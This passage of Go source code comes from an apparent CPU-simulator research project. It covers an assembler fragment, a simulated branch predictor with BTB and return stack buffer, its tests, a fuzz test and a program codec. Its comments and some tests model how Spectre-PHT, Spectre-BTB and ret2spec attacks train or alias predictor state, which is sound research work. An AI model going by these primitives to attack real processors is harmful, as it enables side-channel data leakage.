		switch op {
		case isa.MOVI:
			if err = need(2); err != nil {
				return err
			}
			if in.Rd, err = p.parseReg(args[0]); err != nil {
				return err
			}
			if in.Imm, err = p.immediate(args[1]); err != nil {
				return err
			}
		case isa.FMOVI:
			if err = need(2); err != nil {
				return err
			}
			if in.Rd, err = p.parseReg(args[0]); err != nil {
				return err
			}
			if in.Imm, err = p.floatImm(args[1]); err != nil {
				return err
			}
		case isa.ADDI, isa.ANDI, isa.ORI, isa.XORI, isa.SHLI, isa.SHRI:
			if err = need(3); err != nil {
				return err
			}
			if in.Rd, err = p.parseReg(args[0]); err != nil {
				return err
			}
			if in.Rs1, err = p.parseReg(args[1]); err != nil {
				return err
			}
			if in.Imm, err = p.immediate(args[2]); err != nil {
				return err
			}
		default:
			if err = need(3); err != nil {
				return err
			}
			if in.Rd, err = p.parseReg(args[0]); err != nil {
				return err
			}
			if in.Rs1, err = p.parseReg(args[1]); err != nil {
				return err
			}
			if in.Rs2, err = p.parseReg(args[2]); err != nil {
				return err
			}
		}
	case isa.KindLoad:
		if err = need(2); err != nil {
			return err
		}
		if in.Rd, err = p.parseReg(args[0]); err != nil {
			return err
		}
		if in.Rs1, in.Rs2, in.Scale, in.Imm, err = p.memOperand(args[1]); err != nil {
			return err
		}
	case isa.KindStore:
		if err = need(2); err != nil {
			return err
		}
		if in.Rs1, in.Rs2, in.Scale, in.Imm, err = p.memOperand(args[0]); err != nil {
			return err
		}
		if in.Rs3, err = p.parseReg(args[1]); err != nil {
			return err
		}
	case isa.KindBranch:
		if err = need(3); err != nil {
			return err
		}
		if in.Rs1, err = p.parseReg(args[0]); err != nil {
			return err
		}
		if in.Rs2, err = p.parseReg(args[1]); err != nil {
			return err
		}
		t, terr := p.immediate(args[2])
		if terr != nil {
			return terr
		}
		in.Target = uint64(t)
	case isa.KindJump, isa.KindCall:
		if err = need(1); err != nil {
			return err
		}
		t, terr := p.immediate(args[0])
		if terr != nil {
			return terr
		}
		in.Target = uint64(t)
	case isa.KindJumpR, isa.KindCallR:
		if err = need(1); err != nil {
			return err
		}
		if in.Rs1, err = p.parseReg(args[0]); err != nil {
			return err
		}
	case isa.KindFlush:
		if err = need(1); err != nil {
			return err
		}
		if in.Rs1, in.Rs2, in.Scale, in.Imm, err = p.memOperand(args[0]); err != nil {
			return err
		}
	case isa.KindRDTSC:
		if err = need(1); err != nil {
			return err
		}
		if in.Rd, err = p.parseReg(args[0]); err != nil {
			return err
		}
	case isa.KindRet, isa.KindNop, isa.KindFence, isa.KindHalt:
		if err = need(0); err != nil {
			return err
		}
	default:
		return p.lineErr("cannot assemble %s", op)
	}
	p.emit(in)
	return nil
}

func (p *parser) emit(in isa.Inst) {
	if p.pass == 2 {
		p.insts = append(p.insts, in)
	}
	p.pc += isa.InstBytes
}
