// Package branch implements the front-end branch prediction structures of
// the simulated processor: the two-level adaptive direction predictor from
// Table 1 of the paper, a branch target buffer (BTB) for indirect jumps and
// calls, and a return stack buffer (RSB) for returns.
//
// These are precisely the structures the SPECRUN attack variants poison:
// SpectrePHT trains the direction predictor, SpectreBTB aliases BTB entries,
// and SpectreRSB desynchronises the RSB from the architectural stack.
//
// The pattern history table and BTB are trained at retirement only (so
// wrong-path execution cannot train them), while the global history register
// and RSB are updated speculatively at fetch and repaired from checkpoints on
// misprediction recovery — the same split used by real out-of-order cores.
package branch

import "fmt"

// Config sizes the prediction structures.
type Config struct {
	HistoryBits int `json:"history_bits"` // global history register width
	PHTSize     int `json:"pht_size"`     // number of 2-bit counters (power of two)
	BTBSets     int `json:"btb_sets"`     // power of two
	BTBAssoc    int `json:"btb_assoc"`
	BTBTagBits  int `json:"btb_tag_bits"` // partial-tag width; 0 means full tags (no aliasing)
	RSBSize     int `json:"rsb_size"`
}

// DefaultConfig returns the configuration used for Table 1's "two-level
// adaptive predictor" (sizes follow common Multi2Sim defaults).
func DefaultConfig() Config {
	return Config{
		HistoryBits: 12,
		PHTSize:     4096,
		BTBSets:     128,
		BTBAssoc:    4,
		BTBTagBits:  0, // full tags by default; attack configs narrow this
		RSBSize:     16,
	}
}

type btbEntry struct {
	pc     uint64
	target uint64
	valid  bool
	lru    uint64
}

// Stats counts predictor events.
type Stats struct {
	CondPredicts    uint64
	CondMispredicts uint64
	BTBHits         uint64
	BTBMisses       uint64
	RSBPushes       uint64
	RSBPops         uint64
}

// Predictor bundles the direction predictor, BTB and RSB, holding both the
// speculative fetch-side state and the committed (architectural) state.
type Predictor struct {
	cfg Config

	pht      []uint8 // 2-bit saturating counters
	btb      []btbEntry
	btbClock uint64

	// Speculative fetch-side state.
	ghr    uint64
	rsb    []uint64
	rsbTop int

	// Committed state, rebuilt into the speculative state on a full flush.
	cghr    uint64
	crsb    []uint64
	crsbTop int

	Stats Stats
}

// New builds a predictor from cfg.
func New(cfg Config) *Predictor {
	if cfg.PHTSize <= 0 || cfg.PHTSize&(cfg.PHTSize-1) != 0 {
		panic(fmt.Sprintf("branch: PHT size %d not a power of two", cfg.PHTSize))
	}
	if cfg.BTBSets <= 0 || cfg.BTBSets&(cfg.BTBSets-1) != 0 {
		panic(fmt.Sprintf("branch: BTB sets %d not a power of two", cfg.BTBSets))
	}
	if cfg.RSBSize <= 0 {
		panic("branch: RSB size must be positive")
	}
	p := &Predictor{
		cfg:  cfg,
		pht:  make([]uint8, cfg.PHTSize),
		btb:  make([]btbEntry, cfg.BTBSets*cfg.BTBAssoc),
		rsb:  make([]uint64, cfg.RSBSize),
		crsb: make([]uint64, cfg.RSBSize),
	}
	for i := range p.pht {
		p.pht[i] = 1 // weakly not-taken
	}
	return p
}

// Config returns the predictor configuration.
func (p *Predictor) Config() Config { return p.cfg }

func (p *Predictor) phtIndex(pc uint64) int {
	h := p.ghr & ((1 << p.cfg.HistoryBits) - 1)
	return int((pc/4 ^ h) & uint64(p.cfg.PHTSize-1))
}

// PredictCond predicts the direction of the conditional branch at pc using
// the current speculative history, and returns the PHT index used so the
// branch can train the same counter at retirement.  It also shifts the
// prediction into the speculative history.
func (p *Predictor) PredictCond(pc uint64) (taken bool, phtIdx int) {
	phtIdx = p.phtIndex(pc)
	taken = p.pht[phtIdx] >= 2
	p.Stats.CondPredicts++
	p.specShiftGHR(taken)
	return taken, phtIdx
}

func (p *Predictor) specShiftGHR(taken bool) {
	p.ghr <<= 1
	if taken {
		p.ghr |= 1
	}
	p.ghr &= (1 << p.cfg.HistoryBits) - 1
}

// TrainCond updates the 2-bit counter at phtIdx with the resolved direction.
// Called at retirement (or pseudo-retirement during runahead for branches
// with valid sources).
func (p *Predictor) TrainCond(phtIdx int, taken bool) {
	c := p.pht[phtIdx]
	if taken {
		if c < 3 {
			c++
		}
	} else if c > 0 {
		c--
	}
	p.pht[phtIdx] = c
}

// RecordMispredict counts a direction/target misprediction.
func (p *Predictor) RecordMispredict() { p.Stats.CondMispredicts++ }

func (p *Predictor) btbSet(pc uint64) []btbEntry {
	idx := (pc / 4) & uint64(p.cfg.BTBSets-1)
	return p.btb[idx*uint64(p.cfg.BTBAssoc) : (idx+1)*uint64(p.cfg.BTBAssoc)]
}

// btbTag computes the (possibly partial) tag for pc.  Real BTBs store only a
// slice of the PC to save area; two addresses congruent modulo
// 4*BTBSets*2^BTBTagBits then share an entry — the aliasing SpectreBTB
// (Fig. 4a) exploits to train a victim branch from attacker code.
func (p *Predictor) btbTag(pc uint64) uint64 {
	t := pc / 4 >> uint(log2(p.cfg.BTBSets))
	if p.cfg.BTBTagBits > 0 {
		t &= (1 << uint(p.cfg.BTBTagBits)) - 1
	}
	return t
}

func log2(v int) int {
	n := 0
	for v > 1 {
		v >>= 1
		n++
	}
	return n
}

// PredictIndirect looks up the BTB for the target of the indirect jump or
// call at pc.
func (p *Predictor) PredictIndirect(pc uint64) (target uint64, ok bool) {
	set := p.btbSet(pc)
	tag := p.btbTag(pc)
	for i := range set {
		if set[i].valid && set[i].pc == tag {
			p.btbClock++
			set[i].lru = p.btbClock
			p.Stats.BTBHits++
			return set[i].target, true
		}
	}
	p.Stats.BTBMisses++
	return 0, false
}

// TrainBTB records the resolved target for pc.  BTB indexing uses PC bits
// only, so two code addresses that are congruent modulo BTBSets*4 alias —
// the property SpectreBTB exploits for cross-domain training.
func (p *Predictor) TrainBTB(pc, target uint64) {
	set := p.btbSet(pc)
	tag := p.btbTag(pc)
	victim := 0
	for i := range set {
		if set[i].valid && set[i].pc == tag {
			victim = i
			goto store
		}
	}
	for i := range set {
		if !set[i].valid {
			victim = i
			goto store
		}
	}
	for i := 1; i < len(set); i++ {
		if set[i].lru < set[victim].lru {
			victim = i
		}
	}
store:
	p.btbClock++
	set[victim] = btbEntry{pc: tag, target: target, valid: true, lru: p.btbClock}
}

// PushRSB records a speculative return address at fetch time (CALL).
func (p *Predictor) PushRSB(retAddr uint64) {
	p.rsb[p.rsbTop] = retAddr
	p.rsbTop = (p.rsbTop + 1) % p.cfg.RSBSize
	p.Stats.RSBPushes++
}

// PopRSB predicts the target of a return.  The RSB is a circular buffer: on
// underflow it wraps and serves stale entries, exactly the behaviour
// ret2spec-style attacks rely on.
func (p *Predictor) PopRSB() uint64 {
	p.rsbTop = (p.rsbTop - 1 + p.cfg.RSBSize) % p.cfg.RSBSize
	p.Stats.RSBPops++
	return p.rsb[p.rsbTop]
}

// Checkpoint captures the speculative history state (GHR + RSB) for
// per-branch recovery.
type Checkpoint struct {
	ghr    uint64
	rsbTop int
	rsb    []uint64
}

// Checkpoint snapshots the speculative state.
func (p *Predictor) Checkpoint() Checkpoint {
	var cp Checkpoint
	p.CheckpointInto(&cp)
	return cp
}

// CheckpointInto snapshots the speculative state into cp, reusing cp's RSB
// buffer when it is large enough.  The CPU's pooled uops carry their
// checkpoint buffers across reuse, so the per-branch snapshot allocates
// nothing in steady state.
func (p *Predictor) CheckpointInto(cp *Checkpoint) {
	cp.ghr = p.ghr
	cp.rsbTop = p.rsbTop
	if cap(cp.rsb) < len(p.rsb) {
		cp.rsb = make([]uint64, len(p.rsb))
	}
	cp.rsb = cp.rsb[:len(p.rsb)]
	copy(cp.rsb, p.rsb)
}

// Reset returns the predictor to its just-constructed state (machine reuse).
func (p *Predictor) Reset() {
	for i := range p.pht {
		p.pht[i] = 1 // weakly not-taken
	}
	for i := range p.btb {
		p.btb[i] = btbEntry{}
	}
	p.btbClock = 0
	p.ghr, p.cghr = 0, 0
	p.rsbTop, p.crsbTop = 0, 0
	for i := range p.rsb {
		p.rsb[i], p.crsb[i] = 0, 0
	}
	p.Stats = Stats{}
}

// Recycle returns a zeroed checkpoint that retains cp's RSB buffer, so a
// pooled holder can be cleared without losing the allocation.
func (cp Checkpoint) Recycle() Checkpoint { return Checkpoint{rsb: cp.rsb[:0]} }

// Restore rewinds the speculative state to cp (misprediction recovery).
func (p *Predictor) Restore(cp Checkpoint) {
	p.ghr = cp.ghr
	p.rsbTop = cp.rsbTop
	copy(p.rsb, cp.rsb)
}

// ShiftResolved shifts the resolved direction of a recovered branch into the
// speculative history (called after Restore on a direction misprediction).
func (p *Predictor) ShiftResolved(taken bool) { p.specShiftGHR(taken) }

// FixLast replaces the most recent speculative history bit with the resolved
// direction.  Used on direction-misprediction recovery when the checkpoint
// was taken after the prediction shifted the wrong bit in.
func (p *Predictor) FixLast(taken bool) {
	p.ghr &^= 1
	if taken {
		p.ghr |= 1
	}
}

// Committed-state maintenance: called as branches retire so that a full
// pipeline flush (e.g. runahead exit) can rebuild the fetch-side state.

// CommitCond records a retired conditional branch direction.
func (p *Predictor) CommitCond(taken bool) {
	p.cghr <<= 1
	if taken {
		p.cghr |= 1
	}
	p.cghr &= (1 << p.cfg.HistoryBits) - 1
}

// CommitCall records a retired call.
func (p *Predictor) CommitCall(retAddr uint64) {
	p.crsb[p.crsbTop] = retAddr
	p.crsbTop = (p.crsbTop + 1) % p.cfg.RSBSize
}

// CommitRet records a retired return.
func (p *Predictor) CommitRet() {
	p.crsbTop = (p.crsbTop - 1 + p.cfg.RSBSize) % p.cfg.RSBSize
}

// SyncToCommitted rebuilds the speculative state from the committed state
// (full pipeline flush: runahead exit, fence, halt).
func (p *Predictor) SyncToCommitted() {
	p.ghr = p.cghr
	p.rsbTop = p.crsbTop
	copy(p.rsb, p.crsb)
}

// GHR exposes the speculative global history (tests only).
func (p *Predictor) GHR() uint64 { return p.ghr }

// CounterAt exposes a PHT counter value (tests only).
func (p *Predictor) CounterAt(idx int) uint8 { return p.pht[idx] }
