package branch

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestTwoBitCounterSaturation(t *testing.T) {
	p := New(DefaultConfig())
	pc := uint64(0x1000)
	_, idx := p.PredictCond(pc)
	for i := 0; i < 10; i++ {
		p.TrainCond(idx, true)
	}
	if p.CounterAt(idx) != 3 {
		t.Fatalf("counter = %d, want saturated 3", p.CounterAt(idx))
	}
	for i := 0; i < 10; i++ {
		p.TrainCond(idx, false)
	}
	if p.CounterAt(idx) != 0 {
		t.Fatalf("counter = %d, want saturated 0", p.CounterAt(idx))
	}
}

// The SpectrePHT training primitive: after T taken-trainings of a branch, the
// next prediction with the same history must be taken.
func TestPHTTraining(t *testing.T) {
	p := New(DefaultConfig())
	pc := uint64(0x2000)
	var idx int
	// The global history register shifts with every training iteration, so
	// the trained PHT index only stabilises once the history saturates to
	// all-taken; train well past the history width, as the attacker's
	// training loop does.
	for i := 0; i < 2*DefaultConfig().HistoryBits; i++ {
		p.SyncToCommitted()
		_, idx = p.PredictCond(pc)
		p.TrainCond(idx, true)
		p.CommitCond(true)
	}
	p.SyncToCommitted()
	taken, _ := p.PredictCond(pc)
	if !taken {
		t.Fatal("trained branch must predict taken")
	}
}

func TestGHRShiftAndMask(t *testing.T) {
	cfg := DefaultConfig()
	cfg.HistoryBits = 4
	p := New(cfg)
	for i := 0; i < 8; i++ {
		p.PredictCond(0x1000) // weakly not-taken: shifts in 0
	}
	if p.GHR() != 0 {
		t.Fatalf("GHR = %b, want 0", p.GHR())
	}
	idx := p.phtIndex(0x1000)
	p.pht[idx] = 3
	p.PredictCond(0x1000)
	if p.GHR() != 1 {
		t.Fatalf("GHR = %b, want 1", p.GHR())
	}
	if p.GHR() >= 1<<4 {
		t.Fatal("GHR exceeded its width")
	}
}

func TestBTBTrainAndAlias(t *testing.T) {
	p := New(DefaultConfig())
	src := uint64(0x4000)
	if _, ok := p.PredictIndirect(src); ok {
		t.Fatal("cold BTB must miss")
	}
	p.TrainBTB(src, 0x5000)
	tgt, ok := p.PredictIndirect(src)
	if !ok || tgt != 0x5000 {
		t.Fatalf("BTB = %#x,%v want 0x5000", tgt, ok)
	}
	// SpectreBTB aliasing: an attacker PC congruent modulo BTBSets*4 maps to
	// the same set; with a matching tag scheme (full PC here) the attacker
	// instead trains its own entry, but set pressure can evict the victim's.
	alias := src + uint64(DefaultConfig().BTBSets*4)
	for i := 0; i < DefaultConfig().BTBAssoc; i++ {
		p.TrainBTB(alias+uint64(i)*uint64(DefaultConfig().BTBSets*4), 0x6000)
	}
	if _, ok := p.PredictIndirect(src); ok {
		t.Fatal("victim entry must be evicted by set pressure")
	}
}

func TestRSBLIFO(t *testing.T) {
	p := New(DefaultConfig())
	p.PushRSB(0x100)
	p.PushRSB(0x200)
	p.PushRSB(0x300)
	for _, want := range []uint64{0x300, 0x200, 0x100} {
		if got := p.PopRSB(); got != want {
			t.Fatalf("PopRSB = %#x, want %#x", got, want)
		}
	}
}

func TestRSBWrapsOnOverflow(t *testing.T) {
	cfg := DefaultConfig()
	cfg.RSBSize = 4
	p := New(cfg)
	for i := 1; i <= 6; i++ {
		p.PushRSB(uint64(i * 0x10))
	}
	// Entries 1 and 2 were overwritten by 5 and 6.
	for _, want := range []uint64{0x60, 0x50, 0x40, 0x30, 0x60, 0x50} {
		if got := p.PopRSB(); got != want {
			t.Fatalf("PopRSB = %#x, want %#x (circular wrap)", got, want)
		}
	}
}

func TestCheckpointRestore(t *testing.T) {
	p := New(DefaultConfig())
	p.PushRSB(0xaaa)
	p.PredictCond(0x1000)
	cp := p.Checkpoint()
	ghr := p.GHR()

	// Speculate down a wrong path: more history shifts, RSB abuse.
	p.PredictCond(0x2000)
	p.PopRSB()
	p.PushRSB(0xbbb)

	p.Restore(cp)
	if p.GHR() != ghr {
		t.Fatal("GHR not restored")
	}
	if got := p.PopRSB(); got != 0xaaa {
		t.Fatalf("RSB top after restore = %#x, want 0xaaa", got)
	}
}

func TestSyncToCommitted(t *testing.T) {
	p := New(DefaultConfig())
	p.CommitCond(true)
	p.CommitCond(false)
	p.CommitCall(0x1234)
	// Speculative state diverges.
	p.PredictCond(0x1000)
	p.PushRSB(0x9999)
	p.PushRSB(0x8888)

	p.SyncToCommitted()
	if p.GHR() != 0b10 {
		t.Fatalf("GHR = %b, want 10", p.GHR())
	}
	if got := p.PopRSB(); got != 0x1234 {
		t.Fatalf("RSB after sync = %#x, want 0x1234", got)
	}
}

// Property: counters stay within [0,3] under arbitrary training sequences.
func TestQuickCounterBounds(t *testing.T) {
	p := New(DefaultConfig())
	f := func(pc uint64, trains []bool) bool {
		_, idx := p.PredictCond(pc % (1 << 20))
		for _, up := range trains {
			p.TrainCond(idx, up)
			if p.CounterAt(idx) > 3 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: Checkpoint/Restore is an exact round trip for GHR and RSB under
// random interleavings.
func TestQuickCheckpointRoundTrip(t *testing.T) {
	p := New(DefaultConfig())
	rng := rand.New(rand.NewSource(42))
	for trial := 0; trial < 200; trial++ {
		// Random pre-state.
		for i := 0; i < rng.Intn(8); i++ {
			p.PushRSB(rng.Uint64())
		}
		cp := p.Checkpoint()
		wantGHR := p.GHR()
		wantPops := make([]uint64, 4)
		probe := p.Checkpoint()
		p.Restore(probe)
		for i := range wantPops {
			wantPops[i] = p.PopRSB()
		}
		p.Restore(probe)

		// Wrong-path damage.
		for i := 0; i < rng.Intn(20); i++ {
			switch rng.Intn(3) {
			case 0:
				p.PredictCond(rng.Uint64() % (1 << 20))
			case 1:
				p.PushRSB(rng.Uint64())
			case 2:
				p.PopRSB()
			}
		}

		p.Restore(cp)
		if p.GHR() != wantGHR {
			t.Fatalf("trial %d: GHR not restored", trial)
		}
		for i := range wantPops {
			if got := p.PopRSB(); got != wantPops[i] {
				t.Fatalf("trial %d: pop %d = %#x, want %#x", trial, i, got, wantPops[i])
			}
		}
		p.Restore(cp)
	}
}
