package prog_test

import (
	"bytes"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/prog"
	"specrun/internal/proggen"
)

// FuzzRoundTrip pins the interchange invariants from two directions.  A
// fuzz input is either treated as candidate binary (Decode must be total
// and, when it accepts, Encode∘Decode must be byte-identity) or, via the
// seed corpus of proggen-derived programs, as a canonical encoding whose
// asm round trip must also be exact.
func FuzzRoundTrip(f *testing.F) {
	opt := proggen.DefaultOptions()
	for seed := int64(0); seed < 8; seed++ {
		bin, err := prog.Encode(proggen.Generate(seed, opt))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(bin)
	}
	f.Add([]byte(prog.Magic))
	f.Fuzz(func(t *testing.T, bin []byte) {
		p, err := prog.Decode(bin)
		if err != nil {
			return // rejected inputs just must not panic
		}
		bin2, err := prog.Encode(p)
		if err != nil {
			t.Fatalf("decoded program does not re-encode: %v", err)
		}
		if !bytes.Equal(bin, bin2) {
			t.Fatalf("Encode(Decode(bin)) differs from bin")
		}
		p2, err := asm.Parse("fuzz", p.Disassemble())
		if err != nil {
			t.Fatalf("disassembly does not re-parse: %v\n%s", err, p.Disassemble())
		}
		bin3, err := prog.Encode(p2)
		if err != nil {
			t.Fatalf("re-parsed program does not encode: %v", err)
		}
		if !bytes.Equal(bin, bin3) {
			t.Fatalf("asm round trip not byte-identical")
		}
	})
}
