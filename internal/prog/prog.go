// Package prog is the program interchange layer: a compact, versioned binary
// codec for asm.Program.  The encoding is canonical — for any program there
// is exactly one valid byte string, and Decode rejects everything else
// (non-minimal varints, unsorted symbol tables, non-canonical operand
// fields, trailing bytes) — so the encoded bytes are a content address: two
// programs are identical iff their encodings are byte-equal.  Fuzz/leak
// reproducers, the CLI (`specrun asm|disasm|run`) and the server's
// POST /v1/run/program all exchange programs in this form (.sprog files).
//
// Layout (all integers little-endian; uvarint/varint are Go's
// encoding/binary varints, minimal-length enforced):
//
//	magic "SPRG" | u16 version (=1)
//	uvarint text base
//	uvarint instruction count, then per instruction:
//	    opcode byte, then the operand fields the opcode carries, in order
//	    rd, rs1, rs2, scale, rs3 (one byte each; reg = class<<6 | idx),
//	    imm (varint, zigzag), target (uvarint)
//	uvarint segment count, then per segment:
//	    uvarint address, uvarint length, raw bytes
//	uvarint symbol count, then per symbol (strictly increasing by name):
//	    uvarint name length, name bytes, uvarint value
package prog

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"sort"

	"specrun/internal/asm"
	"specrun/internal/isa"
)

// Magic starts every encoded program.
const Magic = "SPRG"

// Version is the current format version.
const Version = 1

// Ext is the conventional file extension for encoded programs.
const Ext = ".sprog"

// Decode/Encode limits.  They bound hostile inputs (the server accepts
// programs over HTTP) and are far above anything the generators produce.
const (
	MaxInsts     = 1 << 20 // instructions per program
	MaxSegments  = 1 << 16 // data segments
	MaxDataBytes = 1 << 24 // total initialised data bytes
	MaxSymbols   = 1 << 16 // symbol-table entries
	MaxNameLen   = 128     // bytes per symbol name
)

// Hash returns the content address of an encoded program: the hex sha256 of
// its canonical bytes.
func Hash(bin []byte) string {
	sum := sha256.Sum256(bin)
	return hex.EncodeToString(sum[:])
}

// fields describes which operand fields an opcode carries on the wire.  mem
// stands for the full addressing tuple rs1, rs2, scale, imm.
type fields struct {
	rd, rs1, rs2, rs3, imm, target, mem bool
}

func wireFields(op isa.Opcode) fields {
	switch op.Kind() {
	case isa.KindALU:
		switch op {
		case isa.MOVI, isa.FMOVI:
			return fields{rd: true, imm: true}
		case isa.ADDI, isa.ANDI, isa.ORI, isa.XORI, isa.SHLI, isa.SHRI:
			return fields{rd: true, rs1: true, imm: true}
		default:
			return fields{rd: true, rs1: true, rs2: true}
		}
	case isa.KindLoad:
		return fields{rd: true, mem: true}
	case isa.KindStore:
		return fields{mem: true, rs3: true}
	case isa.KindBranch:
		return fields{rs1: true, rs2: true, target: true}
	case isa.KindJump, isa.KindCall:
		return fields{target: true}
	case isa.KindJumpR, isa.KindCallR:
		return fields{rs1: true}
	case isa.KindFlush:
		return fields{mem: true}
	case isa.KindRDTSC:
		return fields{rd: true}
	default:
		return fields{}
	}
}

// canonInst checks that an instruction is in canonical form: it validates,
// every field its opcode does not carry is zero, and an absent index
// register implies scale zero.  Canonical instructions are exactly those the
// assembler, builder and generators produce, and the only ones Decode
// accepts — so re-encoding a decoded program is byte-identical.
func canonInst(in isa.Inst) error {
	if err := in.Validate(); err != nil {
		return err
	}
	f := wireFields(in.Op)
	want := isa.Inst{Op: in.Op}
	if f.rd {
		want.Rd = in.Rd
	}
	if f.rs1 || f.mem {
		want.Rs1 = in.Rs1
	}
	if f.rs2 || f.mem {
		want.Rs2 = in.Rs2
	}
	if f.rs3 {
		want.Rs3 = in.Rs3
	}
	if f.imm || f.mem {
		want.Imm = in.Imm
	}
	if f.target {
		want.Target = in.Target
	}
	if f.mem {
		want.Scale = in.Scale
	}
	if want != in {
		return fmt.Errorf("prog: %s: non-canonical operand fields", in.Op)
	}
	if f.mem && in.Rs2 == isa.NoReg && in.Scale != 0 {
		return fmt.Errorf("prog: %s: scale %d without index register", in.Op, in.Scale)
	}
	return nil
}

// regByte packs a register into one byte: class<<6 | idx.  Indices are below
// 32 in every file, so the packing is injective; NoReg packs to zero.
func regByte(r isa.Reg) byte {
	return byte(r.Class())<<6 | byte(r.Idx()&0x3f)
}

func byteReg(b byte) isa.Reg {
	return isa.Reg(uint16(b>>6)<<8 | uint16(b&0x3f))
}

// Encode renders a program in canonical binary form.  It rejects programs
// that exceed the format limits, carry non-canonical instructions, or have
// symbol names the assembler could not re-parse.
func Encode(p *asm.Program) ([]byte, error) {
	if len(p.Insts) > MaxInsts {
		return nil, fmt.Errorf("prog: %d instructions exceeds limit %d", len(p.Insts), MaxInsts)
	}
	if len(p.Segments) > MaxSegments {
		return nil, fmt.Errorf("prog: %d segments exceeds limit %d", len(p.Segments), MaxSegments)
	}
	if len(p.Symbols) > MaxSymbols {
		return nil, fmt.Errorf("prog: %d symbols exceeds limit %d", len(p.Symbols), MaxSymbols)
	}
	b := make([]byte, 0, 64+8*len(p.Insts))
	b = append(b, Magic...)
	b = binary.LittleEndian.AppendUint16(b, Version)
	b = binary.AppendUvarint(b, p.Base)

	b = binary.AppendUvarint(b, uint64(len(p.Insts)))
	for i, in := range p.Insts {
		if err := canonInst(in); err != nil {
			return nil, fmt.Errorf("prog: instruction %d: %w", i, err)
		}
		b = append(b, byte(in.Op))
		f := wireFields(in.Op)
		if f.rd {
			b = append(b, regByte(in.Rd))
		}
		if f.rs1 || f.mem {
			b = append(b, regByte(in.Rs1))
		}
		if f.rs2 || f.mem {
			b = append(b, regByte(in.Rs2))
		}
		if f.mem {
			b = append(b, in.Scale)
		}
		if f.rs3 {
			b = append(b, regByte(in.Rs3))
		}
		if f.imm || f.mem {
			b = binary.AppendVarint(b, in.Imm)
		}
		if f.target {
			b = binary.AppendUvarint(b, in.Target)
		}
	}

	total := 0
	b = binary.AppendUvarint(b, uint64(len(p.Segments)))
	for _, s := range p.Segments {
		total += len(s.Data)
		if total > MaxDataBytes {
			return nil, fmt.Errorf("prog: data exceeds limit %d bytes", MaxDataBytes)
		}
		b = binary.AppendUvarint(b, s.Addr)
		b = binary.AppendUvarint(b, uint64(len(s.Data)))
		b = append(b, s.Data...)
	}

	names := make([]string, 0, len(p.Symbols))
	for name := range p.Symbols {
		names = append(names, name)
	}
	sort.Strings(names)
	b = binary.AppendUvarint(b, uint64(len(names)))
	for _, name := range names {
		if len(name) > MaxNameLen || !asm.ValidSymbol(name) {
			return nil, fmt.Errorf("prog: invalid symbol name %q", name)
		}
		b = binary.AppendUvarint(b, uint64(len(name)))
		b = append(b, name...)
		b = binary.AppendUvarint(b, p.Symbols[name])
	}
	return b, nil
}

// decoder walks an encoded program, failing sticky on the first error.
type decoder struct {
	b   []byte
	off int
	err error
}

func (d *decoder) fail(format string, args ...any) {
	if d.err == nil {
		d.err = fmt.Errorf("prog: offset %d: %s", d.off, fmt.Sprintf(format, args...))
	}
}

func (d *decoder) u8() byte {
	if d.err != nil {
		return 0
	}
	if d.off >= len(d.b) {
		d.fail("unexpected end of input")
		return 0
	}
	v := d.b[d.off]
	d.off++
	return v
}

// uvarint reads a minimal-length unsigned varint.  Rejecting non-minimal
// encodings keeps the format canonical: every value has one byte string.
func (d *decoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.b[d.off:])
	if n <= 0 {
		d.fail("bad varint")
		return 0
	}
	if n > 1 && d.b[d.off+n-1] == 0 {
		d.fail("non-minimal varint")
		return 0
	}
	d.off += n
	return v
}

func (d *decoder) varint() int64 {
	u := d.uvarint() // zigzag rides on the uvarint wire form
	return int64(u>>1) ^ -int64(u&1)
}

func (d *decoder) bytes(n uint64) []byte {
	if d.err != nil {
		return nil
	}
	if uint64(len(d.b)-d.off) < n {
		d.fail("unexpected end of input (%d bytes wanted)", n)
		return nil
	}
	v := d.b[d.off : d.off+int(n) : d.off+int(n)]
	d.off += int(n)
	return v
}

// count reads a length prefix and checks it against both the format limit
// and the bytes actually remaining (at least min bytes per element), so a
// hostile prefix cannot force a huge allocation.
func (d *decoder) count(limit int, min int, what string) int {
	n := d.uvarint()
	if d.err != nil {
		return 0
	}
	if n > uint64(limit) {
		d.fail("%d %s exceeds limit %d", n, what, limit)
		return 0
	}
	if n*uint64(min) > uint64(len(d.b)-d.off) {
		d.fail("%d %s overruns input", n, what)
		return 0
	}
	return int(n)
}

// Decode parses canonical binary form back into a program.  It accepts
// exactly the Encode image: any deviation — wrong magic or version, a
// non-minimal varint, a non-canonical instruction, an unsorted or invalid
// symbol table, trailing bytes — is an error, so Decode∘Encode is identity
// and Encode∘Decode is byte-identity.
func Decode(bin []byte) (*asm.Program, error) {
	d := &decoder{b: bin}
	if len(bin) < len(Magic)+2 || string(bin[:len(Magic)]) != Magic {
		return nil, fmt.Errorf("prog: bad magic (not a %s program)", Magic)
	}
	d.off = len(Magic)
	if v := binary.LittleEndian.Uint16(bin[d.off:]); v != Version {
		return nil, fmt.Errorf("prog: unsupported version %d (have %d)", v, Version)
	}
	d.off += 2

	p := &asm.Program{Base: d.uvarint(), Symbols: make(map[string]uint64)}

	nInsts := d.count(MaxInsts, 1, "instructions")
	if nInsts > 0 && d.err == nil {
		p.Insts = make([]isa.Inst, 0, nInsts)
	}
	for i := 0; i < nInsts && d.err == nil; i++ {
		in := isa.Inst{Op: isa.Opcode(d.u8())}
		f := wireFields(in.Op)
		if f.rd {
			in.Rd = byteReg(d.u8())
		}
		if f.rs1 || f.mem {
			in.Rs1 = byteReg(d.u8())
		}
		if f.rs2 || f.mem {
			in.Rs2 = byteReg(d.u8())
		}
		if f.mem {
			in.Scale = d.u8()
		}
		if f.rs3 {
			in.Rs3 = byteReg(d.u8())
		}
		if f.imm || f.mem {
			in.Imm = d.varint()
		}
		if f.target {
			in.Target = d.uvarint()
		}
		if d.err == nil {
			if err := canonInst(in); err != nil {
				return nil, fmt.Errorf("prog: instruction %d: %w", i, err)
			}
			p.Insts = append(p.Insts, in)
		}
	}

	nSegs := d.count(MaxSegments, 2, "segments")
	total := 0
	if nSegs > 0 && d.err == nil {
		p.Segments = make([]asm.Segment, 0, nSegs)
	}
	for i := 0; i < nSegs && d.err == nil; i++ {
